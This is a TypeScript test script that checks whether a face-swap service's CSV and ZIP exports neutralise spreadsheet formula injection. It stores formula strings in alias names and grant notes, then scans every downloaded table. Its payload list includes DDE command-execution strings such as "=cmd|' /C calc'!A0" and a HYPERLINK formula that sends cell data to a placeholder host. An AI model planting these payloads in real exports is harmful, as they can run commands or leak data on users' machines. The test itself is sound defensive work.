import { randomUUID } from 'node:crypto'
import { parseArgs } from 'node:util'
import { parseCsv } from '@guise/test/contract/support/csv'
import { DOCUMENT } from '@guise/test/contract/support/operations'
import { openBrowser } from '@guise/test/contract/support/session'
import { unzip } from '@guise/test/contract/support/zip'
import { personAt } from '@guise/test/support/person'
import { portrait } from '@guise/test/support/pictures'
import { type Stack, startStack } from '@guise/test/support/stack'
import { RECIPE } from '../lib/recipe.ts'

export const USAGE = `npm run battery -- csv
  Formulas as names of filters and aliases and as notes of grants, in every table that can be downloaded: no cell begins
  like a formula, and each of those texts is there.
`
/** How a spreadsheet is told to compute: OWASP's list, with the wide forms that Japanese keyboards have. */
const BEGINS_FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/
const FILTER_NAME = '=HYPERLINK("http://nobody.invalid/?f="&A1,"Open")'
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://nobody.invalid/?a="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '",=1+1,"',
  'a\r\n=1+1',
  '\uff1d1+1',
  ';=1+1',
]

export async function run(args: readonly string[]): Promise<boolean> {
  parseArgs({ args: [...args] })
  const stack = await startStack({ workers: 1 })
  try {
    return await attack(stack)
  } finally {
    await stack.stop()
  }
}

async function attack(stack: Stack): Promise<boolean> {
  const { id: accountId, client } = await stack.account({ credits: 100 })
  const browser = await openBrowser(stack, accountId, { role: 'owner', isOperator: true })
  const operator = personAt(stack.baseUrl, browser.headers)
  const filter = await saveFilter(stack, accountId)
  const campaign = (await client.post('/v1/campaigns', { name: randomUUID() })).json.id
  const alias = (await client.post(`/v1/campaigns/${campaign}/aliases`, { filter, name: 'a' })).json
  const photo = { base64: await portrait(), gender: 1, filter_id: alias.id }
  const job = (await client.post('/v6/run/face_swap', photo)).json.id
  const { json } = await client.finish('/v6/status/{job_id}', job)
  if (json.status !== 'COMPLETED') throw new Error(`no picture: ${JSON.stringify(json)}`)

  const tables = tablesOf(campaign)
  const problems: string[] = []
  let [cells, refused] = [0, 0]
  for (const formula of FORMULAS) {
    const named = [
      await client.call('PATCH', `/v1/aliases/${alias.id}`, { body: { name: formula } }),
      await operator.post(`/v1/operator/accounts/${accountId}/credits`, {
        amount: 1,
        note: formula,
        reference: randomUUID(),
      }),
    ]
    refused += named.filter(({ status }) => status >= 400).length
    for (const [name, path] of tables) {
      const isOperators = name.startsWith('/v1/operator/')
      const whole = await (isOperators ? operator : client).get(path)
      const text = name.endsWith('.zip') ? tablesIn(whole.bytes) : whole.text
      if (text === undefined) continue
      if (whole.status !== 200 || !text) problems.push(`${name} cannot be read: ${whole.status}`)
      const rows = parseCsv(text).flat()
      cells += rows.length
      // Tables of pictures tell the name that the filter had from its beginning.
      const expected = /pictures|archive/.test(name) ? FILTER_NAME : formula.trim()
      const isTold = rows.some((cell) => cell.includes(expected))
      const isTaken = named.every(({ status }) => status < 300)
      // Operators download the audit log, which has no words of people.
      if (isTaken && !isTold && !isOperators)
        problems.push(`${name} lacks ${JSON.stringify(expected)}`)
      const harmful = rows.filter((cell) => BEGINS_FORMULA.test(cell) && !isNumber(cell))
      for (const cell of harmful) problems.push(`${name} has ${JSON.stringify(cell)}`)
    }
  }
  process.stdout.write(
    `${FORMULAS.length} formulas, ${refused} refused where they are typed, ${tables.length} tables (${tables.map(([name]) => name).join(', ')}), ` +
      `${cells} cells, ${problems.length} problems\n`,
  )
  for (const problem of new Set(problems)) process.stdout.write(`!! ${problem}\n`)
  return problems.length === 0
}

const isNumber = (cell: string) => /^[+-]?\d+(\.\d+)?$/.test(cell)

type Table = readonly [name: string, path: string]

/** Every table of openapi.json: a new one is looked at without anybody thinking of it. */
function tablesOf(campaign: string): readonly Table[] {
  return Object.entries(DOCUMENT.paths).flatMap(([path, { get }]): Table[] => {
    const kinds = Object.keys(get?.responses[200]?.content ?? {})
    const at = path.replace('{campaign_id}', campaign)
    if (at.includes('{')) return []
    if (kinds.includes('text/csv')) return [[path, `${at}?format=csv`]]
    return kinds.includes('application/zip') ? [[`${path}.zip`, at]] : []
  })
}

/** The tables in an archive; the data of an account are in none. */
function tablesIn(zip: Buffer): string | undefined {
  const tables = [...unzip(zip)].filter(([name]) => name.endsWith('.csv'))
  return tables.length > 0 ? tables.map(([, bytes]) => bytes.toString()).join('\n') : undefined
}

async function saveFilter({ operator }: Stack, accountId: string): Promise<string> {
  const id = randomUUID()
  await operator.saveFilter({
    ...{ id, versionId: randomUUID(), accountId, name: FILTER_NAME, engine: 'cpu' },
    ...{ modelType: 'face_swap', model: 'v6', recipe: RECIPE, previewBlobs: [] },
  })
  return id
}
